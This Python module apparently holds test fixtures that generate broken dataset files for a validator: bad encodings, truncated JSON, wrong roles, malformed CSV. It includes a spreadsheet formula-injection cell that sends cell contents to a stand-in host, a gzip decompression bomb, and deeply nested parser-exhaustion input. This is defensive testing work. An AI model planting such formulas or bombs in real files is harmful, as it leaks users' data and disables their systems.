"""Files with every fault that a data set can have. Each maker writes into a folder and returns the path."""

import gzip
import json
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path

GOOD = {"messages": [{"role": "user", "content": "What is a banyan?"}, {"role": "assistant", "content": "A tree."}]}
CHINESE = "这家酒店的位置很好，房间也很干净，早餐的种类很多，下次还会再来住。"
JAPANESE = "吾輩は猫である。名前はまだ無い。どこで生れたかとんと見当がつかぬ。"


@dataclass(frozen=True, slots=True)
class Case:
    """A faulty file, and what must be said of it: (row, code) of each fault, in order, and the number of good rows."""

    make: Callable[[Path], Path]
    faults: tuple[tuple[int, str], ...]
    usable: int


def conversation(*turns: tuple[str, object]) -> dict[str, object]:
    return {"messages": [{"role": role, "content": content} for role, content in turns]}


def row(number: int) -> dict[str, object]:
    return conversation(("user", f"What is {number} plus one?"), ("assistant", f"It is {number + 1}."))


def jsonl(path: Path, rows: Sequence[object]) -> Path:
    """Objects become JSON; texts and bytes stand as they are."""
    written = [
        r if isinstance(r, bytes) else (r if isinstance(r, str) else json.dumps(r, ensure_ascii=False)).encode()
        for r in rows
    ]
    path.write_bytes(b"\n".join(written) + b"\n")
    return path


def lines(name: str, *rows: object) -> Callable[[Path], Path]:
    return lambda folder: jsonl(folder / name, rows)


def raw(name: str, data: str | bytes) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        path = folder / name
        path.write_bytes(data.encode() if isinstance(data, str) else data)
        return path

    return make


def packed(name: str, data: bytes, keep: float = 1.0) -> Callable[[Path], Path]:
    """Gzip, cut off after a share `keep` of it."""
    whole = gzip.compress(data, mtime=0)
    return raw(name, whole[: int(len(whole) * keep)])


def talk(*roles: str) -> dict[str, object]:
    return conversation(*((role, f"I am number {number}.") for number, role in enumerate(roles)))


_LONG = conversation(("user", "Go on."), ("assistant", "word and " * 25_000))
_HUGE = conversation(("user", "Go on."), ("assistant", "x" * 5_000_000))
_MANY = b"".join(json.dumps(row(number)).encode() + b"\n" for number in range(2_000))
_INSTRUCTIONS = "instruction,output\n"

CASES: dict[str, Case] = {
    "wrong encoding in one line": Case(
        lines("a.jsonl", row(1), b'{"messages": 1, "text": "' + CHINESE.encode("gb18030") + b'"}', row(3),
              conversation(("user", CHINESE), ("assistant", "好"))),
        ((2, "encoding"),), 3,
    ),
    "bytes of Latin-1": Case(
        lines("a.jsonl", row(1), b'{"messages": [{"role": "user", "content": "caf\xe9"}]}'), ((2, "encoding"),), 1
    ),
    "half a JSON line": Case(lines("a.jsonl", row(1), json.dumps(row(2))[:40], row(3)), ((2, "json"),), 2),
    "half a first line": Case(lines("a.jsonl", '{"messages": [{"role": "user", "content": "a"},', row(2), row(3), row(4)), ((1, "json"),), 3),
    "half a first line of two": Case(lines("a.jsonl", '{"messages": [{"role": "us', row(2)), ((1, "json"),), 1),
    "half a last line": Case(raw("a.jsonl", json.dumps(GOOD) + "\n" + json.dumps(GOOD)[:-9]), ((2, "json"),), 1),
    "only half a line": Case(raw("a.jsonl", json.dumps(GOOD)[:40]), ((1, "json"),), 0),
    "half a JSON file": Case(raw("a.json", json.dumps([row(1), row(2)], indent=1)[:-60]), ((2, "json"),), 1),
    "something after the end": Case(raw("a.json", json.dumps([row(1)]) + "]"), ((2, "json"),), 1),
    "nested garbage": Case(
        lines("a.jsonl", row(1), "[" * 200_000, '{"a":' * 200_000, [[[1]]], {"messages": {"role": "user"}},
              {"messages": [["user", "hi"]]}, conversation(("user", {"a": [1]}), ("assistant", "x"))),
        ((2, "json"), (3, "json"), (4, "not_an_object"), (5, "not_turns"), (6, "not_turns"), (7, "not_text")), 1,
    ),
    "nested garbage in a list": Case(raw("a.json", f"[{json.dumps(row(1))}, {'[' * 200_000}"), ((2, "json"),), 1),
    "rows that are no objects": Case(
        lines("a.jsonl", "3", '"text"', "null", row(4), "true"),
        ((1, "not_an_object"), (2, "not_an_object"), (3, "not_an_object"), (5, "not_an_object")), 1,
    ),
    "an oversized row": Case(lines("a.jsonl", row(1), _HUGE, row(3)), ((2, "too_large"),), 2),
    "an oversized row in a list": Case(raw("a.json", json.dumps([row(1), _HUGE, row(3)])), ((2, "too_large"),), 2),
    "empty answers": Case(
        lines("a.jsonl", conversation(("user", "a"), ("assistant", "")), row(2),
              conversation(("user", "a"), ("assistant", " \n")), conversation(("user", "a"), ("assistant", None)),
              conversation(("user", "  "), ("assistant", "b"))),
        ((1, "empty_answer"), (3, "empty_answer"), (4, "empty_answer"), (5, "empty_prompt")), 1,
    ),
    "empty answers in a table": Case(
        raw("a.csv", _INSTRUCTIONS + "Say a,a\nSay b,\n,b\n"), ((3, "empty_answer"), (4, "empty_prompt")), 1
    ),
    "unknown roles": Case(
        lines("a.jsonl", talk("user", "narrator"), row(2), talk("3", "assistant"), conversation(("", "a")),
              {"messages": [{"content": "a"}]}, {"messages": [{"role": "user"}]},
              {"messages": [{"role": "user", "content": "a"},
                            {"role": "assistant", "content": None, "tool_calls": [{"id": "x"}]}]}),
        ((1, "unknown_role"), (3, "unknown_role"), (4, "unknown_role"), (5, "unknown_role"), (6, "missing_field"),
         (7, "tool_call")), 1,
    ),
    "roles out of order": Case(
        lines("a.jsonl", talk("assistant", "user"), talk("user", "user", "assistant"), talk("user", "system", "assistant"),
              talk("system", "system", "user", "assistant"), talk("user"), talk("system"), {"messages": []},
              talk("system", "user", "assistant", "user")),
        ((1, "no_answer"), (3, "role_order"), (5, "no_answer"), (6, "no_answer"), (7, "no_answer")), 3,
    ),
    "half a character": Case(
        lines("a.jsonl", row(1), '{"messages": [{"role": "user", "content": "\\ud83d"}, {"role": "assistant", "content": "b"}]}'),
        ((2, "broken_character"),), 1,
    ),
    "a quote that is never closed": Case(
        raw("a.csv", _INSTRUCTIONS + 'Say a,a\n"Say b,b\nSay c,c\nSay d,"d\nd"\n'), ((3, "quoting"),), 3
    ),
    "quotes in the wrong place": Case(
        raw("a.csv", _INSTRUCTIONS + '"Say" a,a\nSay 5" b,b\n"Say ""c""",c\n'), ((2, "quoting"),), 2
    ),
    "too many and too few columns": Case(
        raw("a.csv", _INSTRUCTIONS + "Say a,a\nSay b\nSay c,c,c\n\nSay d,d\n"), ((3, "columns"), (4, "columns")), 2
    ),
    "a damaged gzip file": Case(packed("a.jsonl.gz", _MANY, 0.5), ((-1, "damaged"),), -1),
    "a missing field": Case(
        lines("a.jsonl", {"instruction": "a", "output": "b"}, {"instruction": "a"}, {"output": "b"}),
        ((2, "missing_field"), (3, "missing_field")), 1,
    ),
}  # fmt: skip

REFUSED: dict[str, tuple[Callable[[Path], Path], str]] = {  # what is no data set at all, and what is said
    "empty": (raw("a.jsonl", b""), "empty"),
    "blank": (raw("a.csv", b"\n\n \n"), "no rows"),
    "a workbook": (raw("a.csv", b"PK\x03\x04rest"), "save the table as CSV"),
    "a PDF": (raw("a.txt", b"%PDF-1.7"), "a PDF"),
    "zeros": (raw("a.jsonl", bytes(1000)), "not text"),
    "a damaged Parquet file": (raw("a.parquet", b"PAR1" + bytes(100)), "Parquet file is damaged"),
}


def gigabyte(folder: Path) -> Path:
    """A file of 1 GB that takes no room on the disk."""
    path = folder / "big.jsonl"
    with path.open("wb") as file:
        file.write(json.dumps(GOOD).encode() + b"\n")
        file.truncate(10**9)
    return path


def bomb(folder: Path, size: int) -> Path:
    """`size` bytes of spaces in a gzip file of a thousandth of that."""
    return packed("bomb.jsonl.gz", json.dumps(GOOD).encode() + b"\n" + b" " * size)(folder)


def long_row(folder: Path) -> Path:
    """One row of some 50,000 tokens among short ones."""
    return jsonl(folder / "long.jsonl", [*(row(number) for number in range(20)), _LONG])


def one_row(folder: Path) -> Path:
    return jsonl(folder / "one.jsonl", [GOOD])


def all_equal(folder: Path) -> Path:
    return jsonl(folder / "equal.jsonl", [GOOD] * 50)


def formulas(folder: Path) -> Path:
    """Cells that a spreadsheet runs, and some that only look so."""
    cells = ['=HYPERLINK(""http://x.example/?""&A1,""Click"")', "=1+1", "+SUM(A1:A9)", "@SUM(A1)", "-2+3", "- a list"]
    text = "prompt,completion\n" + "".join(f'"{cell}",answer {at}\n' for at, cell in enumerate(cells))
    return raw("formulas.csv", text)(folder)


def many(folder: Path, name: str, megabytes: int) -> Path:
    """A good file of that size, in the container of the name's ending."""
    path, rows = folder / name, megabytes * 1000
    filler = "word " * 190
    with path.open("w", encoding="utf-8") as file:
        if name.endswith(".csv"):
            file.write("prompt,completion\n")
            file.writelines(f'"{number}, {filler}",done\n' for number in range(rows))
        else:
            lead, join, end = ("[\n", ",\n", "\n]") if name.endswith(".json") else ("", "\n", "\n")
            file.write(lead)
            for number in range(rows):
                file.write(
                    (join if number else "") + json.dumps({"prompt": f"{number} {filler}", "completion": "done"})
                )
            file.write(end)
    return path
